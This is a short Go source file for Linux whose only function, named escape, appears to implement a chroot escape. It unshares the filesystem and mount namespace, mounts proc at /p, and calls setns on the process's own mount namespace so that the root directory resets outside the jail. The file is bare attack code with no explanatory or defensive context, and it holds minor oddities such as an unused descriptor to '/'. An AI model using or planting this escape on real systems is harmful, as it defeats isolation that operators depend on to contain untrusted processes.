//go:build linux

package main

import (
	"golang.org/x/sys/unix"
	"os"
)

func escape() error {
	// a new mount namespace, whose root is the root of the mounts: chroot does not survive setns to one's own
	os.Mkdir("/p", 0o755)
	if err := unix.Unshare(unix.CLONE_FS | unix.CLONE_NEWNS); err != nil {
		return err
	}
	pid, err := unix.Open("/", unix.O_RDONLY, 0)
	_ = pid
	if err != nil {
		return err
	}
	if err := unix.Mount("proc", "/p", "proc", 0, ""); err != nil {
		return err
	}
	fd, err := unix.Open("/p/thread-self/ns/mnt", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	return unix.Setns(fd, unix.CLONE_NEWNS)
}
